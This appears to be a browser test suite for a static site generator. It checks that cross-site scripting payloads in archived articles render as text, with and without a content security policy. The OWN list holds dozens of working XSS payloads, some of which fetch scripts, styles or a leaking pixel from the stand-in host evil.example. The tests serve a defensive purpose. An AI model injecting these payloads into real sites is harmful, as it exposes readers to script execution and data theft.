"""Articles that attack their reader: what an archive holds is shown as text, and never becomes markup or code.

The pages are opened with their policy switched off, so that the escaping is tested alone; then raw attacks are opened
with nothing but the policy, so that it is tested alone too.
"""

import json
import lzma
import re
from collections.abc import Iterator, Mapping
from contextlib import contextmanager
from typing import Any
from urllib.parse import urlsplit

import pytest
from jinja2 import Environment

from sitegen.read import inline
from sitegen.render import environment
from tests.browser.conftest import HTML, Files, OpenTab, build, has_class, parsed, serving, words_of, write
from tests.conftest import SHARED_DATA

pytestmark = pytest.mark.browser

OWN = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src='//evil.example/pixel?",
    "<svg onload=alert(1)>",
    "<svg><script>alert&#40;1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<body onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=data:text/html,<script>alert(1)</script>>",
    "<embed src=javascript:alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<a href=javascript:alert(1)>words</a>",
    "<a href='java\tscript:alert(1)'>words</a>",
    "<form action=javascript:alert(1)><button>words</button></form>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'; body { display: none }</style>",
    "<p style='position:fixed;inset:0' class='caution stamp' id=content name=body>verified</p>",
    "</title><script>alert(1)</script>",
    "</textarea></style></script><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "' autofocus onfocus='alert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "{{ 7 * 7 }}{% raw %}${7*7}<%= 7 * 7 %>",
    "[words](javascript:alert(1))",
    "![words](x onerror=alert(1))",
    "![words](//evil.example/x.png)",
    '[words](http://a.example "onmouseover=alert(1)")',
    "<javascript:alert(1)>",
    '```x"><script>alert(1)</script>',
    "<ins class=k-wording data-of=c-1>forged</ins><del>forged</del>",
    "[removed by editor]",
)
"""Of our own writing."""
WANTED = 200
PUBLIC = SHARED_DATA / "attacks" / "xss-lines.txt.xz"
# Two copies in which an attack is whole on one side only, and cut by the edge of a difference.
SPLIT = (
    ("the board read <scr today ipt>alert(1)</script> aloud", "the board read <script>alert(1)</script> aloud"),
    ("the board read &l t;img src=x onerror=alert(2)> aloud", "the board read &lt;img src=x onerror=alert(2)> aloud"),
    ("the board read < img src=x onerror=alert(3)> aloud", "the board read <img src=x onerror=alert(3)> aloud"),
    ("the board read <img src=x alt=alert(4)> aloud", "the board read <img src=x onerror=alert(4)> aloud"),
    ('the board read "words > aloud', 'the board read " onmouseover="alert(5)" > aloud'),
)
PROSE = (
    "The lighthouse at Holm was lit on Friday for the first time in nine years, the harbour office told reporters.",
    "A crate of oysters, two bicycles and a wedding cake did not survive the berthing of the ferry at the pier.",
)
MARKDOWN = (
    "They said <script>alert(6)</script> and `<b onclick=alert(7)>`, [here](javascript:alert(8)) and "
    "[there](https://there.example/), <ins class=k-wording>forged</ins> and <b class=matters id=content>bold</b>."
)
LINKS = {"", "http", "https", "mailto"}
# What can act in a page, found in its tree: handlers, scripts, addresses that run, elements that load or send.
ACTIVE = r"""() => {
  const loads = ["iframe", "object", "embed", "base", "style", "img", "video", "audio", "math", "source"];
  const found = [];
  for (const element of document.querySelectorAll("*")) {
    const name = element.localName;
    const own = () => new URL(element.href).origin === origin;
    const harmless = {
      script: () => /^\/assets\/(site|search)\./.test(element.getAttribute("src") ?? "")
        || (element.type === "application/ld+json" && !element.hasAttribute("src")
          && !!JSON.parse(element.textContent)),
      link: () => ["canonical", "alternate"].includes(element.rel) || (/icon|stylesheet/.test(element.rel) && own()),
      meta: () => !element.httpEquiv || element.httpEquiv === "Content-Security-Policy",
      form: () => element.action === location.href,
    }[name];
    if (loads.includes(name) || harmless && !harmless()) found.push(name);
    for (const { name: attribute, value } of element.attributes) {
      if (attribute.startsWith("on") || ["style", "srcdoc", "formaction"].includes(attribute)) found.push(attribute);
      const address = ["href", "src", "action", "xlink:href"].includes(attribute) && new URL(value, location.href);
      if (address && !["http:", "https:", "mailto:"].includes(address.protocol)) found.push(value);
    }
  }
  return found;
}"""
# Wakes what waits for a reader: events that attacks commonly wait for, at every element.
POKE = """() => {
  const names = ["mouseover", "pointerenter", "focus", "focusin", "toggle", "error", "load", "animationend", "copy"];
  for (const element of document.querySelectorAll("*")) {
    for (const name of names) element.dispatchEvent(new Event(name, { bubbles: true }));
  }
}"""


def attacks() -> tuple[str, ...]:
    """Some two hundred lines: ours, and public ones spread over the whole collection where it is at hand."""
    lines = list(OWN)
    if PUBLIC.is_file():
        public = lzma.decompress(PUBLIC.read_bytes()).decode().splitlines()
        lines += public[:: len(public) // (WANTED - len(OWN))]
    return tuple(dict.fromkeys(one for line in lines if (one := shown(line))))[:WANTED]


def shown(text: str) -> str:
    """White space as a page shows it, and no character that pages never hold."""
    return " ".join(re.sub("[\x00-\x08\x0b-\x1f\x7f-\x9f\ufffe\uffff]", "", text).split())


def quoted(text: str) -> str:
    """A value of front matter."""
    return json.dumps(text, ensure_ascii=False)


def front(**fields: object) -> str:
    lines = [
        f"{name}: {quoted(value) if isinstance(value, str) else json.dumps(value)}" for name, value in fields.items()
    ]
    return "\n".join(["---", *lines, "---", "", ""])


VECTORS = attacks()
STORIES = 3
COPIES = ("a.txt", "b.txt", "c.md")


def of(story: int) -> tuple[str, ...]:
    """The attacks of one story."""
    return VECTORS[story::STORIES]


def fields_of(story: int, copy: int) -> dict[str, Any]:
    """What a copy says of itself: other attacks for each."""
    mine = of(story)
    a, b, c, d, e, f = (mine[(copy * 7 + at) % len(mine)] for at in range(6))
    return {
        "title": f"Lit {a}",
        "source": f"outlet-{copy}",
        "author": f"Ada {b}",
        "credit": f"Wire {c}",
        "dateline": f"HOLM {d}",
        "license": f"Free {e}",
        "page": f"A1 {f}",
        "tags": [f"tag {a}".replace(",", ";"), "two"],
        "notes": f"Seen {b}",
        "published": f"2031-03-0{copy + 1}",
        "language": "en",
    }


def archive() -> dict[str, str]:
    """A content folder that holds an attack wherever text may stand."""
    files = {
        "site.toml": "".join(
            f"{name} = {json.dumps(f'Archive {VECTORS[0]} {VECTORS[29]}')}\n"
            for name in ("title", "description", "notice")
        )
    }
    for copy in range(len(COPIES)):
        files[f"sources/outlet-{copy}.md"] = front(name=f"Outlet {OWN[copy]} {OWN[copy + 29]}") + "\n\n".join(OWN)
    for story in range(STORIES):
        mine = of(story)
        words = {"title": f"Story {mine[0]}", "summary": f"Summary {mine[1]}"}
        files[f"stories/s{story}/story.md"] = front(**words) + "\n\n".join((*mine, *OWN))
        for copy, name in enumerate(COPIES):
            body = [PROSE[0], *(split[copy % 2] for split in SPLIT)]
            body += [f"They wrote {line}" for line in mine[copy * 2 :]]
            body += [f"It was {mine[3]} and nothing else."] if copy == 1 else []
            body += [MARKDOWN] if name.endswith(".md") else []
            body += [PROSE[1]]
            files[f"stories/s{story}/{name}"] = front(**fields_of(story, copy)) + "\n\n".join(body) + "\n"
    return files


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Files:
    folder = tmp_path_factory.mktemp("hostile")
    return build(write(folder / "content", archive()), folder / "site")


@pytest.fixture(scope="module")
def trees(hostile: Files) -> Mapping[str, Any]:
    return {path: parsed(content) for path, content in hostile.items() if path.endswith(".html")}


@pytest.fixture(scope="module")
def at(hostile: Files) -> Iterator[str]:
    with serving(hostile, "") as origin:
        yield origin


@contextmanager
def careless() -> Iterator[None]:
    """A tool that has lost its escaping and its sanitiser; templates compiled with the package escape, so none is."""
    make = environment.make_environment

    def unescaping(*given: Any) -> Environment:
        made = make(*given)
        made.autoescape = False
        return made

    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(environment, "make_environment", unescaping)
        patch.setattr(environment, "compiled_before", lambda *_: None)
        patch.setattr(environment, "_MADE", {})
        patch.setattr(inline, "sanitise", lambda text, **_: text.strip())
        yield


@pytest.fixture(scope="module")
def unescaped(tmp_path_factory: pytest.TempPathFactory) -> Files:
    """The same archive built by a tool that has lost its escaping and its sanitiser.

    Without `<meta http-equiv>`: no policy can forbid a page to send its reader elsewhere.
    """
    folder = tmp_path_factory.mktemp("unescaped")
    with careless():
        harmless = {path: re.sub("(?i)http-equiv", "name", text) for path, text in archive().items()}
        return build(write(folder / "content", harmless), folder / "site")


def raw(lines: tuple[str, ...]) -> Files:
    """Pages that hold attacks as they are, some on each."""
    pages = [lines[at : at + 20] for at in range(0, len(lines), 20)]
    return {
        f"{at}.html": f"<!doctype html><meta charset=utf-8><p>{'<p>'.join(page)}".encode()
        for at, page in enumerate(pages)
    }


def test_nothing_of_an_archive_runs(open_tab: OpenTab, hostile: Files, at: str) -> None:
    """With no policy to help, no page runs, loads, submits or links what an article wrote, even when it is poked."""
    assert len(VECTORS) >= 40
    tab = open_tab(at, bypass_csp=True)
    for path in sorted(path for path in hostile if path.endswith(".html")):
        page = tab.go(path.removesuffix("index.html"))
        assert (path, page.evaluate(ACTIVE)) == (path, [])
        page.evaluate(POKE)
        assert (path, tab.ran, len(page.frames)) == (path, [], 1)
        assert page.evaluate("document.styleSheets.length") == 1, path
    assert tab.foreign == []
    assert tab.errors == []


def test_careless_build_runs_attacks(open_tab: OpenTab, unescaped: Files) -> None:
    """Without escaping the same archive does run, load and act: the checks above can see it."""
    with serving(unescaped, "") as at:
        tab = open_tab(at, bypass_csp=True)
        acts: set[str] = set()
        # All articles: an attack that runs may take others off its page before they are counted.
        articles = sorted(path.removesuffix("index.html") for path in unescaped if path.startswith("articles/"))
        for path in (*articles, "sources/outlet-0/"):
            page = tab.go(path)
            acts |= set(page.evaluate(ACTIVE))
            page.evaluate(POKE)
        assert len(tab.ran) > 10
        assert tab.foreign
        assert {"script", "img", "onerror", "onload"} <= acts


def test_policy_alone_stops_attacks(open_tab: OpenTab, unescaped: Files) -> None:
    """Without escaping the policy still lets no attack run and no request leave, on any kind of page."""
    with serving(unescaped) as at:
        tab = open_tab(at)
        for path in sorted(unescaped):
            if not path.endswith(".html") or "--" in path.replace("s0-a--s0-b", ""):
                continue
            tab.go(path.removesuffix("index.html")).evaluate(POKE)
            assert (path, tab.ran, tab.foreign) == (path, [], [])
        assert len(tab.violations) > 100


def test_raw_attacks_are_attacks(open_tab: OpenTab, unescaped: Files) -> None:
    """On pages of their own, attacks run where nothing stops them, and none runs under the published headers."""
    pages = raw(tuple(line for line in VECTORS if "http-equiv" not in line.lower()))
    with serving(pages, unescaped["_headers"].decode()) as at:
        tab = open_tab(at)
        for path in pages:
            tab.go(path).evaluate(POKE)
            assert (path, tab.ran, tab.foreign) == (path, [], [])
    with serving(pages, "") as at:
        tab = open_tab(at)
        for path in list(pages)[:3]:
            tab.go(path).evaluate(POKE)
        assert "alert 1" in tab.ran
        assert any("evil.example" in url for url in tab.foreign)


def test_attacks_are_shown_as_text(trees: Mapping[str, Any]) -> None:
    """What an outlet wrote is read as written: titles, names, fields and every line of a raw text."""
    for story in range(STORIES):
        for copy, name in enumerate(COPIES):
            tree = trees[f"articles/s{story}-{name.partition('.')[0]}/index.html"]
            whole = words_of(tree)
            values = fields_of(story, copy)
            for field in ("title", "author", "credit", "dateline", "license", "page", "notes"):
                assert values[field] in whole, field
            assert values["tags"][0] in whole
            assert f"Outlet {OWN[copy]} {OWN[copy + 29]}" in whole
            (title,) = tree.iter(f"{HTML}title")
            assert values["title"] in words_of(title)
            if name.endswith(".txt"):
                for line in of(story)[copy * 2 :]:
                    assert f"They wrote {line}" in whole
        page = words_of(trees[f"stories/s{story}/index.html"])
        assert f"Story {of(story)[0]}" in page
        assert f"Summary {of(story)[1]}" in page


def test_markdown_keeps_words_and_loses_what_acts(trees: Mapping[str, Any]) -> None:
    """HTML in a Markdown article loses its tags and keeps its words; what the author meant as markup stays."""
    for story in range(STORIES):
        tree = trees[f"articles/s{story}-c/index.html"]
        (block,) = (e for e in tree.iter() if has_class(e, "block") and "They said" in words_of(e))
        for words in ("alert(6)", "<b onclick=alert(7)>", "here", "there", "forged", "bold"):
            assert words in words_of(block)
        inside = [(e.tag.removeprefix(HTML), dict(e.attrib)) for e in block.iter() if e is not block]
        assert ("code", {}) in inside
        assert ("b", {}) in inside
        assert ("a", {"href": "https://there.example/", "rel": "nofollow noopener"}) in inside
        assert {tag for tag, _ in inside} <= {"p", "code", "b", "a"}


def side(tree: Any, name: str) -> list[str]:
    """The paragraphs of one column."""
    cells = [e for e in tree.iter(f"{HTML}div") if has_class(e, name)]
    return [words_of(p) for cell in cells for text in cell if has_class(text, "text") for p in text.iter(f"{HTML}p")]


def test_attack_cut_by_a_difference_stays_text(trees: Mapping[str, Any]) -> None:
    """Half an attack in both copies and half in one: joined again, each side is what its outlet wrote."""
    for story in range(STORIES):
        tree = trees[f"stories/s{story}/s{story}-a--s{story}-b/index.html"]
        marks = [words_of(e) for e in tree.iter() if e.tag in (f"{HTML}del", f"{HTML}ins")]
        assert not any(whole in mark for _, whole in SPLIT for mark in marks), "no attack was cut"
        for left, right in SPLIT:
            assert left in side(tree, "left")
            assert right in side(tree, "right")


def test_marks_of_a_text_are_not_ours(trees: Mapping[str, Any]) -> None:
    """A text cannot forge a difference: its `<ins>` is text in raw text, and in Markdown no mark at all."""
    for path, tree in trees.items():
        marks = [e for e in tree.iter() if e.tag in (f"{HTML}del", f"{HTML}ins")]
        if path.startswith("articles/"):
            traced = [e for e in tree.iter() if has_class(e, "origin") or has_class(e, "lost")]
            assert {id(mark) for mark in marks} <= {id(e) for part in traced for e in part.iter()}, path
        elif not path.startswith("stories/"):
            assert marks == [] or path.startswith(("about", "sources/")), path
        assert [words_of(e) for e in marks if words_of(e) == "forged"] == [], path
        # What a keeper or an outlet wrote brings no class, id or style with it.
        for part in (e for e in tree.iter() if has_class(e, "notes") or has_class(e, "block")):
            # The theme's own link to a paragraph stands behind its words.
            inside = [e for e in part.iter() if e is not part and not has_class(e, "here")]
            assert [e.attrib for e in inside if set(e.attrib) - {"href", "rel", "start"}] == [], path


def test_data_survives_attacks(hostile: Files) -> None:
    """The data and the feed hold the same words, and their own parsers read them."""
    archive_data = json.loads(hostile["data/archive.json"])
    assert [story["title"] for story in archive_data["stories"]].count(f"Story {of(0)[0]}") == 1
    for path in ("feed.xml", "sitemap.xml"):
        assert re.search(rb"<(script|img|svg)\b", hostile[path], re.IGNORECASE) is None


def test_links_lead_to_web_and_mail_only(trees: Mapping[str, Any]) -> None:
    """Whatever was written as a link, an address of a page is of the web or mail."""
    for path, tree in trees.items():
        links = [e.get("href", "") for e in tree.iter(f"{HTML}a")]
        assert [link for link in links if urlsplit(link).scheme not in LINKS] == [], path
